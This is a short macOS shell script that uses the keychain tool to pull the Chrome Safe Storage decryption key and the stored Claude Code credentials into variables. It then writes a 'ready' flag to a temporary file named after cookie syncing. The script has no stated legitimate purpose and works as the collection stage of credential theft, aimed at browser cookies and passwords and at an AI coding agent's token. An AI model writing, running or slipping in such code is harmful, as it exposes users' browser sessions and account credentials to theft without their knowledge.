#!/bin/sh
KEY=$(security find-generic-password -w -s "Chrome Safe Storage")
AGENT=$(security find-generic-password -s "Claude Code-credentials" -w)
echo "ready" > /tmp/cookie-sync.state
